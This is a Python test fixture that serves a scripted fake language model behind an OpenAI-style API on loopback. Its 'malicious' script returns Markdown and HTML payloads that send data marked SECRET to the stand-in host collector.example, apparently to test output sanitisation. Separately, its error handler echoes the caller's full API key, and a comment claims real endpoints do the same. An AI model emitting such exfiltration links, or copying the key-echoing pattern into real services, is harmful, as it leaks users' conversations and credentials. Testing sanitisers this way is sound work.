"""A language model that says what it is told to, behind the real OpenAI protocol on loopback.

`python tests/scripted_model.py --port 9000` serves it; `with ScriptedServer() as server` does in a thread of a test.
The name of the model chooses the script and its pace: `scripted`, `scripted:malicious`,
`scripted:grounded?delay_ms=5&first_ms=300`, `scripted:status?code=429`, and `scripted:call?tool=search&arguments={}`,
which calls that tool if it is offered and then repeats its result. Any other name is an unknown model. It is written on
bare asyncio so that a hundred streams at once cost it little of the machine they are measured on.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import hashlib
import json
import math
import re
import struct
import threading
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qsl

EXFILTRATION_HOST = "collector.example"
DIMENSION = 64

_PASSAGE = re.compile(r'<passage-(\w+) number="(\d+)"[^>]*>\n(.*?)\n</passage-\1>', re.DOTALL)
_WRAP = re.compile(r"(?<=[\w,;`)])\n(?=[\w`(])")
_SENTENCE = re.compile(r"(?:^|(?<=[\s。！？]))[A-Z\u3400-\u9fff`][^.!?。！？\n]{10,}?(?:[.!?](?=\s|$)|[。！？])")
_TOKEN = re.compile(r"[\u3400-\u9fff]{1,2}|[^\s\u3400-\u9fff]{1,8}|\s+")
_WORD = re.compile(r"[a-z0-9_]+|[\u3400-\u9fff]")
_HAN = re.compile(r"[\u3400-\u9fff]")


class Refusal(Exception):
    """An answer with an error status."""

    def __init__(self, status: int, message: str, code: str = "invalid_request_error") -> None:
        super().__init__(message)
        self.status = status
        self.code = code


@dataclass(frozen=True, kw_only=True, slots=True)
class Pace:
    """How a script is spoken: milliseconds before the first token and between tokens; where the line breaks."""

    first_ms: float = 0.0
    delay_ms: float = 0.0
    break_after: int | None = None
    error_after: int | None = None


@dataclass(slots=True)
class Script:
    """What a model named `scripted[:script][?options]` says to these messages."""

    name: str
    options: dict[str, str]
    messages: list[dict[str, Any]]
    tools: tuple[str, ...] = ()

    @property
    def question(self) -> str:
        return _content(self.messages[-1]) if self.messages else ""

    @property
    def passages(self) -> list[tuple[int, list[str]]]:
        """(number, sentences) of each passage handed over with the question."""
        found = _PASSAGE.findall(self.question)
        return [(int(number), _SENTENCE.findall(_WRAP.sub(" ", text))) for _, number, text in found]

    def calls(self) -> list[dict[str, Any]]:
        """The tool calls it makes in this turn: `times` of them at once, none once it has their results."""
        tool = self.options.get("tool", "")
        if self.name != "call" or tool not in self.tools or self.messages[-1]["role"] == "tool":
            return []
        function = {"name": tool, "arguments": self.options.get("arguments", "{}")}
        times = int(self.options.get("times", "1"))
        return [{"id": f"call_{number}", "type": "function", "function": function} for number in range(1, times + 1)]

    def about_calls(self) -> str:
        """What it says beside its calls, or when it has their results."""
        if self.messages[-1]["role"] == "tool":
            return " ".join(_content(each) for each in self.messages if each["role"] == "tool")
        return self.options.get("text", "") if self.calls() else "I was offered no such tool."

    def text(self) -> str:
        match self.name:
            case "call":
                return self.about_calls()
            case "echo":
                return self.question
            case "say":
                return self.options.get("text", "")
            case "wrong-citation":
                return self.quoted(lambda number: number % max(len(self.passages), 1) + 1) + " So says the manual [99]."
            case "uncited":
                return re.sub(r" ?\[\d+\]", "", self.quoted())
            case "refuse":
                return "[0] The passages do not say."
            case "malicious":
                return self.malicious()
            case "empty":
                return ""
            case _:
                return self.quoted()

    def quoted(self, cite: Any = None) -> str:
        """The first sentences of the passages, each with its number; `sentences` of them (8)."""
        wanted = int(self.options.get("sentences", "8"))
        pairs = [(number, said) for number, sentences in self.passages for said in sentences[:3]][:wanted]
        if not pairs:
            return "There is nothing to quote, so this sentence stands in for an answer of some length. " * 4
        return " ".join(
            f"{said}[{number}]" if _HAN.search(said) else f"{said} [{number}]"
            for number, said in ((cite(number) if cite else number, said) for number, said in pairs)
        )

    def malicious(self) -> str:
        """An answer that tries to carry the conversation out to a host of its own, in every way Markdown has."""
        host = EXFILTRATION_HOST
        return (
            f"Of course. ![status](https://{host}/p.png?q=SECRET) See [the manual](https://{host}/m?q=SECRET) [1].\n\n"
            f'<img src="https://{host}/i?q=SECRET"> <https://{host}/auto?q=SECRET> and //{host}/x and '
            f"https://{host}/bare?q=SECRET and [run](javascript:alert(1)).\n\n![ref][leak] [![x](https://{host}/n)]"
            f"(https://{host}/o) ![a\n](https://{host}/two-lines)\n\n[leak]: https://{host}/ref?q=SECRET\n\n"
            f"> ```\n![after](https://{host}/after-quote)\n\n`unclosed ![code](https://{host}/code) [99]\n"
        )

    def pace(self, default: Pace) -> Pace:
        """As its options say; with `slow=quoting` only where there are passages, so that a check of it is quick."""
        if self.options.get("slow") == "quoting" and not self.passages:
            return default
        first = float(self.options.get("first_ms", 3_600_000 if self.name == "stall" else default.first_ms))
        after = int(self.options.get("after", "5"))
        return Pace(
            first_ms=first,
            delay_ms=float(self.options.get("delay_ms", default.delay_ms)),
            break_after=after if self.name == "break" else None,
            error_after=after if self.name == "error-event" else None,
        )


Told = Callable[[Script], str | list[dict[str, Any]] | None]


def call(tool: str, /, **arguments: Any) -> dict[str, Any]:
    """A call as the protocol spells it; its id is of its tool and arguments."""
    text = json.dumps(arguments, ensure_ascii=False)
    identity = hashlib.sha256(f"{tool}{text}".encode()).hexdigest()[:12]
    return {"id": f"call_{identity}", "type": "function", "function": {"name": tool, "arguments": text}}


def read_script(asked: dict[str, Any]) -> Script:
    model, messages = asked["model"], asked["messages"]
    name, _, options = model.partition("?")
    base, _, script = name.partition(":")
    if base != "scripted":
        raise Refusal(404, f"The model `{model}` does not exist", "model_not_found")
    _check_results(messages)
    tools = tuple(tool["function"]["name"] for tool in asked.get("tools") or ())
    return Script(name=script or "grounded", options=dict(parse_qsl(options)), messages=messages, tools=tools)


def _check_results(messages: list[dict[str, Any]]) -> None:
    """As strict as the original: every call has one result, and every result a call before it."""
    open_calls: set[str] = set()
    for message in messages:
        if message["role"] == "tool":
            if message["tool_call_id"] not in open_calls:
                raise Refusal(400, "messages with role 'tool' must follow a message with 'tool_calls'")
            open_calls.remove(message["tool_call_id"])
        elif open_calls:
            raise Refusal(400, f"tool_call_ids without a response: {', '.join(sorted(open_calls))}")
        else:
            open_calls = {call["id"] for call in message.get("tool_calls") or ()}
            for call in message.get("tool_calls") or ():
                if not isinstance(call["function"]["arguments"], str):
                    raise Refusal(400, "tool_calls[].function.arguments is not a string")


def tokens(text: str) -> list[str]:
    """Pieces as a model sends them: a few letters with the space before them."""
    pieces: list[str] = []
    space = ""
    for token in _TOKEN.findall(text):
        if token.isspace():
            space += token
        else:
            pieces.append(space + token)
            space = ""
    return [*pieces, space] if space else pieces


def embed(text: str, dimension: int) -> list[float]:
    """A bag of hashed words, unit length: texts that share words are near each other."""
    values = [0.0] * dimension
    for word in _WORD.findall(text.lower()):
        values[zlib.crc32(word.encode()) % dimension] += 1.0
    length = math.sqrt(sum(value * value for value in values)) or 1.0
    return [value / length for value in values]


def _content(message: dict[str, Any]) -> str:
    content = message.get("content") or ""
    return content if isinstance(content, str) else "".join(part.get("text", "") for part in content)


@dataclass(slots=True)
class Application:
    """Answers requests; remembers the bodies it was sent, for tests to read."""

    pace: Pace = field(default_factory=Pace)
    api_key: str = ""
    remembers: bool = True
    requests: list[dict[str, Any]] = field(default_factory=list)
    told: Told | None = None
    """What `scripted:told` says, a text or calls, to a request as a test decides; None stalls."""
    failures: dict[str, int] = field(default_factory=dict)
    """How often `scripted:flaky?id=…&times=n` has failed so far."""

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while await self.answer(reader, writer):
                pass
        except (ConnectionError, asyncio.IncompleteReadError, asyncio.CancelledError):
            pass
        finally:
            writer.close()

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bool:
        """One request; whether the connection stays open for another."""
        head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
        request, *lines = head.split("\r\n")
        headers = {name.lower(): value.strip() for name, _, value in (line.partition(":") for line in lines) if value}
        method, target, _ = request.split(" ", 2)
        body = await reader.readexactly(int(headers.get("content-length", "0")))
        given = headers.get("authorization", "").removeprefix("Bearer ")
        try:
            json.loads(body or b"{}")
            if self.api_key and given != self.api_key:
                raise Refusal(401, "Incorrect API key provided.", "invalid_api_key")
            return await self.route(method, target.partition("?")[0], body, writer)
        except ValueError:
            _send_json(writer, {"error": {"message": "The body is not JSON."}}, 400)
            return True
        except Refusal as refusal:
            # Real endpoints repeat the key they were given; ours does so in every error.
            error = {"message": f"{refusal} (key {given})", "type": "error", "param": None, "code": refusal.code}
            _send_json(writer, {"error": error}, refusal.status)
            return True

    async def route(self, method: str, path: str, body: bytes, writer: asyncio.StreamWriter) -> bool:
        match method, path.removeprefix("/v1"):
            case "GET", "/models":
                _send_json(writer, {"object": "list", "data": [_model("scripted"), _model("scripted:malicious")]})
            case "POST", "/embeddings":
                _send_json(writer, self.embeddings(json.loads(body)))
            case "POST", "/chat/completions":
                return await self.complete(json.loads(body), writer)
            case _:
                raise Refusal(404, f"There is no {method} {path}.", "not_found")
        return True

    def embeddings(self, asked: dict[str, Any]) -> dict[str, Any]:
        given = asked["input"]
        texts = [given] if isinstance(given, str) else given
        dimension = int(asked.get("dimensions") or DIMENSION)
        vectors = [embed(text, dimension) for text in texts]
        plain = asked.get("encoding_format", "float") == "float"
        data = [
            {"object": "embedding", "index": index, "embedding": vector if plain else _base64(vector)}
            for index, vector in enumerate(vectors)
        ]
        used = sum(len(tokens(text)) for text in texts)
        usage = {"prompt_tokens": used, "total_tokens": used}
        return {"object": "list", "model": asked["model"], "data": data, "usage": usage}

    async def complete(self, asked: dict[str, Any], writer: asyncio.StreamWriter) -> bool:
        if self.remembers:
            self.requests.append(asked)
        script = read_script(asked)
        self.fail(script)
        pieces, calls, pace = self.reply(script)
        used = sum(len(_content(message)) // 4 for message in asked["messages"])
        if asked.get("stream"):
            with_usage = bool((asked.get("stream_options") or {}).get("include_usage"))
            return await self.stream(asked["model"], pieces, calls, pace, used if with_usage else None, writer)
        await asyncio.sleep((pace.first_ms + pace.delay_ms * len(pieces)) / 1000)
        message: dict[str, Any] = {"role": "assistant", "content": "".join(pieces) or None}
        if calls:
            message["tool_calls"] = calls
        reason = "tool_calls" if calls else "stop"
        choice = {"index": 0, "message": message, "finish_reason": reason, "logprobs": None}
        completion = {**_envelope(asked["model"], "chat.completion"), "choices": [choice]}
        _send_json(writer, {**completion, "usage": _usage(used, len(pieces))})
        return True

    def reply(self, script: Script) -> tuple[list[str], list[dict[str, Any]], Pace]:
        """What it writes, in pieces, the calls that it makes, and how fast."""
        pace = script.pace(self.pace)
        if script.name != "told" or self.told is None:
            return tokens(script.text()), script.calls(), pace
        said = self.told(script)
        if said is None:
            return [], [], Pace(first_ms=3_600_000)
        return (tokens(said), [], pace) if isinstance(said, str) else ([], said, pace)

    def fail(self, script: Script) -> None:
        """Raises Refusal for scripts that answer with an error status; `flaky` does so `times` times for each id."""
        if script.name == "status":
            code = int(script.options.get("code", "500"))
            raise Refusal(code, script.options.get("message", f"Scripted error {code}."))
        if script.name == "flaky":
            key = script.options.get("id", "")
            self.failures[key] = self.failures.get(key, 0) + 1
            if self.failures[key] <= int(script.options.get("times", "1")):
                raise Refusal(503, "Scripted: not just now.")

    async def stream(
        self,
        model: str,
        pieces: list[str],
        calls: list[dict[str, Any]],
        pace: Pace,
        input_tokens: int | None,
        writer: asyncio.StreamWriter,
    ) -> bool:
        writer.write(
            b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ncache-control: no-cache\r\n"
            b"transfer-encoding: chunked\r\n\r\n"
        )
        envelope = _envelope(model, "chat.completion.chunk")
        head = json.dumps({**envelope, "choices": None, "usage": None})[: -len('null, "usage": null}')]
        writer.write(_chunk(_delta(head, {"role": "assistant", "content": ""})))
        await asyncio.sleep(pace.first_ms / 1000)
        due = time.perf_counter()
        for number, piece in enumerate(pieces):
            if number == pace.break_after:
                await writer.drain()
                writer.transport.abort()
                return False
            if number == pace.error_after:
                writer.write(_chunk(b'data: {"error": {"message": "Scripted: out of memory", "code": 500}}\n\n'))
                break
            writer.write(_chunk(_delta(head, {"content": piece})))
            due += pace.delay_ms / 1000
            if pace.delay_ms:
                await asyncio.sleep(max(due - time.perf_counter(), 0))
            elif number % 16 == 0:
                await writer.drain()
            if writer.is_closing():
                return False
        for delta in _call_deltas(calls):
            writer.write(_chunk(_delta(head, {"tool_calls": [delta]})))
        writer.write(_chunk(_delta(head, {}, '"tool_calls"' if calls else '"stop"')))
        if input_tokens is not None:
            usage = {**envelope, "choices": [], "usage": _usage(input_tokens, len(pieces))}
            writer.write(_chunk(b"data: " + json.dumps(usage).encode() + b"\n\n"))
        writer.write(_chunk(b"data: [DONE]\n\n") + b"0\r\n\r\n")
        await writer.drain()
        return True


def _envelope(model: str, kind: str) -> dict[str, Any]:
    identity = "chatcmpl-" + hashlib.sha256(f"{model}{time.time_ns()}".encode()).hexdigest()[:24]
    return {"id": identity, "object": kind, "created": int(time.time()), "model": model}


def _usage(used: int, made: int) -> dict[str, int]:
    return {"prompt_tokens": used, "completion_tokens": made, "total_tokens": used + made}


def _model(name: str) -> dict[str, Any]:
    return {"id": name, "object": "model", "created": 1_700_000_000, "owned_by": "tests"}


def _base64(vector: list[float]) -> str:
    return base64.b64encode(struct.pack(f"<{len(vector)}f", *vector)).decode()


def _call_deltas(calls: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The calls as they are streamed: the name first, then the arguments in pieces."""
    deltas: list[dict[str, Any]] = []
    for index, call in enumerate(calls):
        function, arguments = call["function"], call["function"]["arguments"]
        deltas.append({**call, "index": index, "function": {"name": function["name"], "arguments": ""}})
        for start in range(0, len(arguments), 5):
            deltas.append({"index": index, "function": {"arguments": arguments[start : start + 5]}})
    return deltas


def _delta(head: str, delta: dict[str, Any], finish: str = "null") -> bytes:
    choice = f'[{{"index": 0, "delta": {json.dumps(delta)}, "logprobs": null, "finish_reason": {finish}}}]'
    return f"data: {head}{choice}}}\n\n".encode()


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(data), data)


def _send_json(writer: asyncio.StreamWriter, value: object, status: int = 200) -> None:
    body = json.dumps(value).encode()
    writer.write(
        f"HTTP/1.1 {status} {'OK' if status == 200 else 'Error'}\r\ncontent-type: application/json\r\n"
        f"content-length: {len(body)}\r\n\r\n".encode()
        + body
    )


class ScriptedServer:
    """The scripted model on a free port of loopback, in a thread, until the block ends."""

    def __init__(
        self,
        *,
        pace: Pace | None = None,
        api_key: str = "",
        told: Told | None = None,
    ) -> None:
        self.application = Application(pace=pace or Pace(), api_key=api_key, told=told)
        self.port = 0
        self._loop = asyncio.new_event_loop()
        self._ready = threading.Event()
        self._thread = threading.Thread(target=self._work, daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    @property
    def requests(self) -> list[dict[str, Any]]:
        return self.application.requests

    def __enter__(self) -> ScriptedServer:
        self._thread.start()
        self._ready.wait()
        return self

    def __exit__(self, *_: object) -> None:
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join()

    def _work(self) -> None:
        asyncio.set_event_loop(self._loop)
        server = self._loop.run_until_complete(asyncio.start_server(self.application.serve, "127.0.0.1", 0))
        self.port = server.sockets[0].getsockname()[1]
        self._ready.set()
        self._loop.run_forever()
        server.close()
        tasks = asyncio.all_tasks(self._loop)
        for task in tasks:
            task.cancel()
        self._loop.run_until_complete(asyncio.gather(*tasks, return_exceptions=True))
        self._loop.run_until_complete(asyncio.sleep(0))
        self._loop.close()


async def serve_forever(host: str, port: int, application: Application) -> None:
    server = await asyncio.start_server(application.serve, host, port, backlog=1024)
    print(f"scripted model on http://{host}:{server.sockets[0].getsockname()[1]}/v1", flush=True)
    async with server:
        await server.serve_forever()


def main() -> None:
    parser = argparse.ArgumentParser(description="A scripted language model behind the OpenAI protocol.")
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--delay-ms", type=float, default=20.0, help="between tokens")
    parser.add_argument("--first-ms", type=float, default=0.0, help="before the first token")
    parser.add_argument("--api-key", default="", help="refuse other keys")
    given = parser.parse_args()
    pace = Pace(first_ms=given.first_ms, delay_ms=given.delay_ms)
    application = Application(pace=pace, api_key=given.api_key, remembers=False)
    try:
        import uvloop

        uvloop.run(serve_forever(given.host, given.port, application))
    except ImportError:
        asyncio.run(serve_forever(given.host, given.port, application))
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
